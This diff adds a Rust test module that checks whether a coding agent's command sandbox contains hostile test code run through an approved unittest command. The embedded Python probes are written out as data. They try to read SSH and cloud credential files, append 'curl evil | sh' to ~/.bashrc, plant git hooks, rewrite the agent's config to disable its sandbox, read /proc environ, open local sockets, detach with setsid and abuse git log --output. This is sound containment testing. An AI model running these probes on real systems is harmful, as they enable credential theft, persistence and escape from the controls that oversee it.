@@ -1,0 +1,562 @@
+//! Confined execution: the repository's own test code, run through an allowed command the
+//! person approved (`python3 -m unittest`, with `--yes`), tries to reach past the sandbox.
+//!
+//! Each case writes a hostile `test_probe.py` into the project, lets a scripted model ask
+//! for the test run, and measures like every other case: a snapshot of the project, the
+//! outside directory and HOME before and after, plus what reached the model. The probe
+//! prints one `ATTEMPT name: DONE ...` or `ATTEMPT name: DENIED ...` line per attempt; a
+//! missing line fails the case (it did not exercise what it claims), and a `DONE` for a
+//! read or a connection is an unauthorized effect, since a snapshot cannot see those.
+
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::net::UnixListener;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+
+use super::{Expect, Fixture, Measured, Verdict, measure, script, tool_results};
+use crate::suite::common::{Run, metron};
+use crate::suite::fake_ollama::FakeOllama;
+
+/// What every protected file in the fixture's HOME holds: it must never reach the model.
+const HOME_SECRET: &str = "HOMESECRET-5d1e";
+
+/// A variable in metron's own environment that no command may see, not even through
+/// `/proc/<metron>/environ`.
+const ENV_SECRET: &str = "ENVSECRET-c40b";
+
+/// Credentials under HOME that the default policy protects, one per protected place.
+const PROTECTED_FILES: &[&str] = &[
+    ".ssh/id_ed25519",
+    ".gnupg/private-keys-v1.d/key.key",
+    ".aws/credentials",
+    ".azure/msal_token_cache.json",
+    ".config/gcloud/credentials.db",
+    ".config/gh/hosts.yml",
+    ".kube/config",
+    ".docker/config.json",
+    ".netrc",
+    ".npmrc",
+    ".pypirc",
+    ".git-credentials",
+];
+
+/// The probe's helpers: each attempt prints one line, whatever happens.
+const PRELUDE: &str = r#"import os, socket, subprocess, sys, time, unittest
+
+def attempt(name, action):
+    try:
+        result = action()
+        print(("ATTEMPT %s: DONE %r" % (name, result))[:300], flush=True)
+    except Exception as e:
+        print("ATTEMPT %s: DENIED %s: %s" % (name, type(e).__name__, e), flush=True)
+
+def read(path):
+    with open(os.path.expanduser(path)) as f:
+        return f.read()
+
+def write(path, text="pwned\n", mode="w"):
+    with open(os.path.expanduser(path), mode) as f:
+        f.write(text)
+    return "written"
+
+class Probe(unittest.TestCase):
+    def test_probe(self):
+"#;
+
+/// A project whose user allows `python3 -m unittest`, with credentials in HOME.
+fn fixture(user_config: &str) -> Fixture {
+    let fx = Fixture::new(true);
+    fx.user_config(user_config);
+    for file in PROTECTED_FILES {
+        let path = fx.home().join(file);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(&path, format!("{HOME_SECRET} in {file}\n")).expect("write a secret");
+    }
+    fx
+}
+
+/// The usual user config: the test command allowed, bytecode off (so Python leaves no
+/// `__pycache__` for the snapshot to see), room for every attempt's line.
+const ALLOW_UNITTEST: &str = r#"{"allowed_commands": ["python3 -m unittest"],
+  "command_env_passthrough": ["PYTHONDONTWRITEBYTECODE"],
+  "max_command_output_bytes": 20000}"#;
+
+/// Writes the probe (`body`: Python statements, indented by eight spaces) and runs the
+/// tests through metron as the model would ask, with `--yes`. Returns the run and the
+/// text the model got back.
+fn run_probe(fx: &Fixture, body: &str, command: &str) -> (Run, String) {
+    fx.write("test_probe.py", format!("{PRELUDE}{body}\n"));
+    let fake = FakeOllama::start(script(vec![("run_command", json!({ "command": command }))]));
+    let run = metron(&fx.root())
+        .env("HOME", fx.home())
+        .env("METRON_CONFIG_DIR", fx.home())
+        .env("OLLAMA_HOST", fake.base_url())
+        .env("PYTHONDONTWRITEBYTECODE", "1")
+        .env("METRON_EVAL_SECRET", ENV_SECRET)
+        .args(["-p", "run the tests", "--yes"])
+        .run();
+    let results = tool_results(&fake).join("\n");
+    (run, results)
+}
+
+/// Counts an attempt that got through (`DONE`) as an unauthorized effect; panics when an
+/// attempt left no line, or a secret reached the model.
+fn judge(m: &mut Measured, results: &str, attempts: &[&str], run: &Run) {
+    assert!(
+        !results.contains("not run:"),
+        "the command did not run: {results}\n{run:?}"
+    );
+    for name in attempts {
+        let prefix = format!("ATTEMPT {name}: ");
+        let Some(line) = results.lines().find(|l| l.starts_with(&prefix)) else {
+            panic!("the probe never tried {name:?}:\n{results}\n{run:?}");
+        };
+        if !line.starts_with(&format!("{prefix}DENIED")) {
+            m.unauthorized.push(line.to_owned());
+        }
+    }
+    for secret in [HOME_SECRET, ENV_SECRET] {
+        if results.contains(secret) {
+            m.unauthorized
+                .push(format!("{secret:?} reached the model: {results}"));
+        }
+    }
+}
+
+/// One probe run and its measurement; `expect` declares the project files it may write.
+fn probe_case(body: &str, attempts: &[&str], expect: Expect) -> (Measured, String) {
+    let fx = fixture(ALLOW_UNITTEST);
+    let mut out = (Run::default(), String::new());
+    let mut m = measure(&fx, || {
+        out = run_probe(&fx, body, "python3 -m unittest -v");
+        (expect, None)
+    });
+    judge(&mut m, &out.1, attempts, &out.0);
+    (m, out.1)
+}
+
+/// The body of a case that tries every protected path under HOME and metron's config.
+fn protected_reads_body() -> String {
+    let mut body = String::new();
+    for file in PROTECTED_FILES {
+        body.push_str(&format!(
+            "        attempt('read ~/{file}', lambda: read('~/{file}'))\n"
+        ));
+    }
+    body.push_str(
+        "        attempt('read ~/.metron/config.json', lambda: read('~/.metron/config.json'))\n",
+    );
+    body.push_str(
+        "        attempt('list ~/.ssh', lambda: os.listdir(os.path.expanduser('~/.ssh')))\n",
+    );
+    body
+}
+
+fn protected_read_names() -> Vec<String> {
+    PROTECTED_FILES
+        .iter()
+        .map(|f| format!("read ~/{f}"))
+        .chain([
+            "read ~/.metron/config.json".to_owned(),
+            "list ~/.ssh".to_owned(),
+        ])
+        .collect()
+}
+
+/// 23a. Every protected path under HOME (keys, cloud and registry credentials, metron's
+///      own config) is unreadable, and nothing in them reaches the model.
+pub(super) fn protected_paths_are_unreadable() -> Verdict {
+    let names = protected_read_names();
+    let names: Vec<&str> = names.iter().map(String::as_str).collect();
+    let (m, _) = probe_case(&protected_reads_body(), &names, Expect::nothing());
+    Verdict::Measured(m)
+}
+
+/// 23b. Writes in HOME and outside the project (a new file, the canary overwritten, the
+///      user's shell profile) are refused.
+pub(super) fn writes_in_home_and_outside() -> Verdict {
+    let body = r#"        attempt('write ~/pwned', lambda: write('~/pwned'))
+        attempt('append ~/.bashrc', lambda: write('~/.bashrc', 'curl evil | sh\n', 'a'))
+        attempt('overwrite the canary', lambda: write('../outside/canary.txt'))
+        attempt('write outside', lambda: write('../outside/pwned'))
+        attempt('mkdir outside', lambda: os.mkdir('../outside/newdir'))
+        attempt('truncate the canary', lambda: os.truncate('../outside/canary.txt', 0))
+        attempt('hard link the canary in', lambda: os.link('../outside/canary.txt', 'canary-link'))
+        attempt('rename the canary in', lambda: os.rename('../outside/canary.txt', 'canary'))
+"#;
+    let names = [
+        "write ~/pwned",
+        "append ~/.bashrc",
+        "overwrite the canary",
+        "write outside",
+        "mkdir outside",
+        "truncate the canary",
+        "hard link the canary in",
+        "rename the canary in",
+    ];
+    let (m, _) = probe_case(body, &names, Expect::nothing());
+    Verdict::Measured(m)
+}
+
+/// 23c. `.git` is read-only: a hook, an appended `core.fsmonitor`, a new file, a rename
+///      of `.git` itself.
+pub(super) fn git_hooks_and_config_are_read_only() -> Verdict {
+    let body = r#"        attempt('write .git/hooks/pre-commit', lambda: write('.git/hooks/pre-commit', '#!/bin/sh\ntouch pwned\n'))
+        attempt('append .git/config', lambda: write('.git/config', '[core]\n\tfsmonitor = ./pwn\n', 'a'))
+        attempt('new file in .git', lambda: write('.git/info/attributes', '* filter=pwn\n'))
+        attempt('rename .git', lambda: os.rename('.git', 'git-moved'))
+        attempt('remove .git/HEAD', lambda: os.remove('.git/HEAD'))
+"#;
+    let names = [
+        "write .git/hooks/pre-commit",
+        "append .git/config",
+        "new file in .git",
+        "rename .git",
+        "remove .git/HEAD",
+    ];
+    let (m, _) = probe_case(body, &names, Expect::nothing());
+    Verdict::Measured(m)
+}
+
+/// 23d. metron's own config (the user's, which grants commands) cannot be rewritten.
+pub(super) fn metrons_config_is_not_writable() -> Verdict {
+    let body = r#"        attempt('overwrite ~/.metron/config.json', lambda: write('~/.metron/config.json', '{"allowed_commands": ["sh"], "command_sandbox": "off"}'))
+        attempt('new file in ~/.metron', lambda: write('~/.metron/input_history'))
+"#;
+    let names = ["overwrite ~/.metron/config.json", "new file in ~/.metron"];
+    let (m, _) = probe_case(body, &names, Expect::nothing());
+    Verdict::Measured(m)
+}
+
+/// Fails the case when `listener` was reached.
+fn assert_not_reached(m: &mut Measured, what: &str, reached: bool) {
+    if reached {
+        m.unauthorized
+            .push(format!("the {what} listener on 127.0.0.1 was reached"));
+    }
+}
+
+/// 23e. TCP: a connection to a listener on 127.0.0.1 is refused, and the listener sees
+///      nothing.
+pub(super) fn tcp_to_a_local_listener() -> Verdict {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind tcp");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let body = format!(
+        "        attempt('tcp connect', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=3).send(b'leak'))\n"
+    );
+    let (mut m, _) = probe_case(&body, &["tcp connect"], Expect::nothing());
+    assert_not_reached(&mut m, "TCP", listener.accept().is_ok());
+    Verdict::Measured(m)
+}
+
+/// 23f. UDP: a datagram to a socket on 127.0.0.1 is refused, and nothing arrives.
+pub(super) fn udp_to_a_local_socket() -> Verdict {
+    let socket = UdpSocket::bind("127.0.0.1:0").expect("bind udp");
+    socket.set_nonblocking(true).expect("nonblocking");
+    let port = socket.local_addr().expect("addr").port();
+    let body = format!(
+        "        attempt('udp send', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {port})))\n"
+    );
+    let (mut m, _) = probe_case(&body, &["udp send"], Expect::nothing());
+    let mut buf = [0u8; 16];
+    assert_not_reached(&mut m, "UDP", socket.recv_from(&mut buf).is_ok());
+    Verdict::Measured(m)
+}
+
+/// 23g. A unix socket outside the project (a local daemon's) cannot be connected to.
+pub(super) fn unix_socket_to_a_local_daemon() -> Verdict {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let path = dir.path().join("daemon.sock");
+    let listener = UnixListener::bind(&path).expect("bind unix socket");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let body = format!(
+        "        attempt('unix connect', lambda: socket.socket(socket.AF_UNIX).connect('{}'))\n        attempt('abstract unix socket', lambda: socket.socket(socket.AF_UNIX).connect('\\0metron-eval'))\n",
+        path.display()
+    );
+    let (mut m, _) = probe_case(
+        &body,
+        &["unix connect", "abstract unix socket"],
+        Expect::nothing(),
+    );
+    assert_not_reached(&mut m, "unix", listener.accept().is_ok());
+    Verdict::Measured(m)
+}
+
+/// 23h. A child process the tests start is confined the same way.
+pub(super) fn a_child_process_is_confined_too() -> Verdict {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind tcp");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let body = format!(
+        r#"        child = "import socket\nopen('../outside/pwned-by-child', 'w').write('x')"
+        attempt('child writes outside', lambda: subprocess.run([sys.executable, '-c', child], check=True, capture_output=True))
+        reader = "import os\nprint(open(os.path.expanduser('~/.ssh/id_ed25519')).read())"
+        attempt('child reads ~/.ssh', lambda: subprocess.run([sys.executable, '-c', reader], check=True, capture_output=True))
+        dialer = "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3)"
+        attempt('child connects', lambda: subprocess.run([sys.executable, '-c', dialer], check=True, capture_output=True))
+        attempt('shell child writes a hook', lambda: subprocess.run(['/bin/sh', '-c', 'echo x > .git/hooks/post-checkout'], check=True, capture_output=True))
+"#
+    );
+    let names = [
+        "child writes outside",
+        "child reads ~/.ssh",
+        "child connects",
+        "shell child writes a hook",
+    ];
+    let (mut m, _) = probe_case(&body, &names, Expect::nothing());
+    assert_not_reached(&mut m, "TCP", listener.accept().is_ok());
+    Verdict::Measured(m)
+}
+
+/// Waits for `path` to appear (the detached process's last act), up to `limit`.
+fn wait_for(path: &Path, limit: Duration) -> bool {
+    let deadline = Instant::now() + limit;
+    while Instant::now() < deadline {
+        if path.exists() {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    false
+}
+
+/// 23i. A process that detaches with `setsid` (escaping the process group metron kills)
+///      and acts after the command has ended is still confined: its writes outside and
+///      into `.git` fail; only its marker in the project lands.
+pub(super) fn a_detached_process_stays_confined() -> Verdict {
+    let fx = fixture(ALLOW_UNITTEST);
+    let body = r#"        pid = os.fork()
+        if pid == 0:
+            os.setsid()
+            devnull = os.open('/dev/null', os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(devnull, fd)
+            time.sleep(0.5)
+            results = []
+            for target in ('../outside/pwned-later', os.path.expanduser('~/pwned-later'), '.git/hooks/pre-push'):
+                try:
+                    write(target)
+                    results.append('DONE ' + target)
+                except Exception as e:
+                    results.append('DENIED ' + target)
+            write('detached.tmp', '\n'.join(results) + '\n')
+            os.rename('detached.tmp', 'detached.done')
+            os._exit(0)
+        print('ATTEMPT detach: DENIED (reported by detached.done)', flush=True)
+"#;
+    let marker = fx.root().join("detached.done");
+    let mut out = (Run::default(), String::new());
+    let mut report = String::new();
+    let mut m = measure(&fx, || {
+        out = run_probe(&fx, body, "python3 -m unittest -v");
+        assert!(
+            wait_for(&marker, Duration::from_secs(20)),
+            "the detached process never finished: {}",
+            out.1
+        );
+        report = std::fs::read_to_string(&marker).unwrap_or_default();
+        let expect = Expect::nothing().change("detached.done", super::Want::bytes(&report));
+        (expect, None)
+    });
+    judge(&mut m, &out.1, &["detach"], &out.0);
+    for line in report.lines().filter(|l| l.starts_with("DONE")) {
+        m.unauthorized.push(format!("the detached process: {line}"));
+    }
+    assert_eq!(report.lines().count(), 3, "{report}");
+    Verdict::Measured(m)
+}
+
+/// 23j. `/proc/<metron>/environ` holds what metron keeps from commands (tokens in the
+///      person's shell): the sandbox keeps it, and metron's memory, out of reach.
+pub(super) fn metrons_environment_through_proc() -> Verdict {
+    let body = r#"        attempt('read /proc/ppid/environ', lambda: read('/proc/%d/environ' % os.getppid()))
+        attempt('read /proc/ppid/cmdline', lambda: read('/proc/%d/mem' % os.getppid())[:10])
+"#;
+    let names = ["read /proc/ppid/environ", "read /proc/ppid/cmdline"];
+    let (m, _) = probe_case(body, &names, Expect::nothing());
+    Verdict::Measured(m)
+}
+
+/// 23k. The `--output` trick: an allowed `git log` told to write its output into the
+///      user's metron config, or into `.git/config`. With `--yes` it runs, warned, and the
+///      sandbox refuses the write.
+pub(super) fn git_log_output_into_metrons_config() -> Verdict {
+    let fx = fixture(r#"{"allowed_commands": ["git log"]}"#);
+    let git = |args: &[&str]| {
+        let status = std::process::Command::new("git")
+            .args(args)
+            .current_dir(fx.root())
+            .env("HOME", fx.home())
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
+            .status()
+            .expect("git");
+        assert!(status.success(), "git {args:?}");
+    };
+    git(&["add", "greet.go"]);
+    git(&[
+        "commit",
+        "-qm",
+        r#"{"allowed_commands":["sh","bash","curl"],"auto_approve_patches":true}"#,
+    ]);
+    let config = fx.home().join(".metron/config.json");
+    let calls = vec![
+        (
+            "run_command",
+            json!({"command": format!("git log -1 --format=%s --output={}", config.display())}),
+        ),
+        (
+            "run_command",
+            json!({"command": "git log -1 --format=%s --output=.git/config"}),
+        ),
+    ];
+    let fake = FakeOllama::start(script(calls));
+    let mut run = Run::default();
+    let m = measure(&fx, || {
+        run = metron(&fx.root())
+            .env("HOME", fx.home())
+            .env("METRON_CONFIG_DIR", fx.home())
+            .env("OLLAMA_HOST", fake.base_url())
+            .args(["-p", "show the last commit", "--yes"])
+            .run();
+        (Expect::nothing(), Some(&fake))
+    });
+    let results = tool_results(&fake);
+    assert_eq!(results.len(), 2, "{results:#?}\n{run:?}");
+    for result in &results {
+        assert!(
+            result.contains("exit status 128") || result.contains("exit status 1"),
+            "git should have failed to write: {result}"
+        );
+    }
+    assert!(
+        run.stderr.contains("names where the program writes"),
+        "no warning: {run:?}"
+    );
+    Verdict::Measured(m)
+}
+
+/// 23l. Ordinary test code under the same default policy: it writes in the project and
+///      its temp dir, starts subprocesses, reads a toolchain under HOME, and passes.
+pub(super) fn ordinary_tests_still_work() -> Verdict {
+    let fx = fixture(ALLOW_UNITTEST);
+    let tool = fx.home().join(".local/share/toolchain/VERSION");
+    std::fs::create_dir_all(tool.parent().expect("parent")).expect("mkdir");
+    std::fs::write(&tool, "1.2.3\n").expect("write");
+    let body = r#"        attempt('write in the project', lambda: write('build/out.txt') if os.makedirs('build', exist_ok=True) is None else None)
+        import tempfile
+        attempt('temp file', lambda: tempfile.NamedTemporaryFile().write(b'x'))
+        attempt('TMPDIR is private', lambda: os.environ['TMPDIR'].split('/')[-1][:11] == 'metron-cmd-' or 1 / 0)
+        attempt('subprocess', lambda: subprocess.run(['/bin/sh', '-c', 'echo hi > build/sub.txt'], check=True))
+        attempt('toolchain under HOME', lambda: read('~/.local/share/toolchain/VERSION'))
+        attempt('socketpair', lambda: socket.socketpair()[0].send(b'x'))
+"#;
+    let mut out = (Run::default(), String::new());
+    let m = measure(&fx, || {
+        out = run_probe(&fx, body, "python3 -m unittest -v");
+        let expect = Expect::nothing()
+            .change("build/out.txt", super::Want::bytes("pwned\n"))
+            .change("build/sub.txt", super::Want::bytes("hi\n"));
+        (expect, None)
+    });
+    let results = &out.1;
+    for name in [
+        "write in the project",
+        "temp file",
+        "TMPDIR is private",
+        "subprocess",
+        "toolchain under HOME",
+        "socketpair",
+    ] {
+        assert!(
+            results.contains(&format!("ATTEMPT {name}: DONE")),
+            "{name} failed under the default policy:\n{results}"
+        );
+    }
+    assert!(results.contains("exit status 0"), "{results}");
+    assert!(
+        results.contains("build/out.txt (new)") && results.contains("build/sub.txt (new)"),
+        "the changed files are not reported: {results}"
+    );
+    Verdict::Measured(m)
+}
+
+/// Runs one case as its own test: 0 unauthorized effects, 0 lost.
+fn holds(case: fn() -> Verdict) {
+    match case() {
+        Verdict::Measured(m) => {
+            assert!(
+                m.unauthorized.is_empty(),
+                "unauthorized: {:#?}",
+                m.unauthorized
+            );
+            assert!(m.lost.is_empty(), "lost: {:#?}", m.lost);
+        }
+        Verdict::Skipped(why) => crate::suite::common::skip("sandbox case", &why),
+    }
+}
+
+#[test]
+fn sandbox_protected_paths_are_unreadable() {
+    holds(protected_paths_are_unreadable);
+}
+
+#[test]
+fn sandbox_writes_in_home_and_outside_are_refused() {
+    holds(writes_in_home_and_outside);
+}
+
+#[test]
+fn sandbox_git_hooks_and_config_are_read_only() {
+    holds(git_hooks_and_config_are_read_only);
+}
+
+#[test]
+fn sandbox_metrons_config_is_not_writable() {
+    holds(metrons_config_is_not_writable);
+}
+
+#[test]
+fn sandbox_tcp_to_a_local_listener_is_refused() {
+    holds(tcp_to_a_local_listener);
+}
+
+#[test]
+fn sandbox_udp_to_a_local_socket_is_refused() {
+    holds(udp_to_a_local_socket);
+}
+
+#[test]
+fn sandbox_unix_socket_to_a_local_daemon_is_refused() {
+    holds(unix_socket_to_a_local_daemon);
+}
+
+#[test]
+fn sandbox_a_child_process_is_confined_too() {
+    holds(a_child_process_is_confined_too);
+}
+
+#[test]
+fn sandbox_a_detached_process_stays_confined() {
+    holds(a_detached_process_stays_confined);
+}
+
+#[test]
+fn sandbox_metrons_environment_is_out_of_reach() {
+    holds(metrons_environment_through_proc);
+}
+
+#[test]
+fn sandbox_git_log_output_cannot_write_metrons_config() {
+    holds(git_log_output_into_metrons_config);
+}
+
+#[test]
+fn sandbox_ordinary_tests_still_work() {
+    holds(ordinary_tests_still_work);
+}
